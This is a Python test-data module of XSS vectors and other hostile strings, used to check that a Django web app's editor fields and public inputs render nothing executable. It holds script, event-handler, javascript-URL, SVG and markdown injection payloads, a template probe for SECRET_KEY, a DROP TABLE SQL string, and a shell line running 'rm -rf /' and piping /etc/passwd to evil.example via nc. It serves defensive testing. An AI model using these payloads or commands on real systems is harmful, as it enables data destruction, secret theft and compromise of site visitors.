"""Attack strings: script injection vectors and other hostile text.

Every vector here is put into every field an editor controls and into every public input; the
tests then read the pages the way a browser would (html5lib) and look for anything that runs.
None holds a NUL character, so all of them can be stored on PostgreSQL; NUL has its own tests.
"""

SCRIPT_ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>/*</script><script>*/alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.org/a.png" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p/onclick=alert(1)>click</p>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x onerror=alert(1)//",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
    '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#10;ascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="javascript:alert(1)">',
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '\ufeff<a href="javascript:alert(1)">x</a>',
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "![img][pic]\n\n[pic]: data:image/svg+xml,<svg/onload=alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '[x](https://example.org "t\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.org/" onmouseover="alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    'Paragraph {: onclick="alert(1)" }',
    '[x](https://example.org){: onclick="alert(1)" }',
    '<div markdown="1" onclick="alert(1)">[x](javascript:alert(1))</div>',
    "*[HTML]: <script>alert(1)</script>\n\nHTML here",
    "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>\n> [q](javascript:alert(1))",
]

EMBEDDING = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
]

MALFORMED = [
    '<a href="https://example.org"" onmouseover="alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '<img """><script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<plaintext>everything after",
    "<xmp><script>alert(1)</script>",
    "<!-- x --><script>alert(1)</script>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<img src='x' onerror='alert(1)' <",
    "<a href=https://example.org/><img src=x onerror=alert(1)></a",
]

TEMPLATES = [
    "{{ 7|add:7 }} {% debug %}",
    "{% load static %}{% static 'x.js' %}",
    "{{ request.META }}{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
]

UNICODE = [
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u2028\u2029</script><script>alert(1)</script>",
    "<img src=x on\u00aderror=alert(1)>",
    '<a href="java\ufffdscript:alert(1)">x</a>',
]

XSS_VECTORS = [
    *SCRIPT_ELEMENTS,
    *EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *MARKDOWN,
    *EMBEDDING,
    *MALFORMED,
    *TEMPLATES,
    *UNICODE,
]

# Text that is not markup but must come back exactly as typed, or be refused with a message.
CONTROL_CHARACTERS = "tab\tvertical\x0bform\x0cbell\x07escape\x1bdelete\x7f"
INVISIBLE = "zero\u200bwidth\u200cjoiner\u200dmark\u2060rtl\u200fltr\u200eoverride\u202eend\u202c"
EMOJI = "Stem cells 🧬🫁 👩🏽‍⚕️ and 🇬🇧"
SQL_LIKE = "'; DROP TABLE articles_article; -- \" OR 1=1 /* %_ \\"
SHELL_LIKE = "$(rm -rf /) `reboot` ; cat /etc/passwd | nc evil.example 1 && echo ~ > /dev/null"
MIXED_SCRIPTS = "Fibrosis Фиброз 纤维化 تليف 線維症 ফাইব্রোসিস"

HOSTILE_TEXT = {
    "control": CONTROL_CHARACTERS,
    "invisible": INVISIBLE,
    "emoji": EMOJI,
    "sql": SQL_LIKE,
    "shell": SHELL_LIKE,
    "scripts": MIXED_SCRIPTS,
    "markup": "<script>alert(1)</script>",
    "template": "{{ 7|add:7 }} {% debug %}",
}
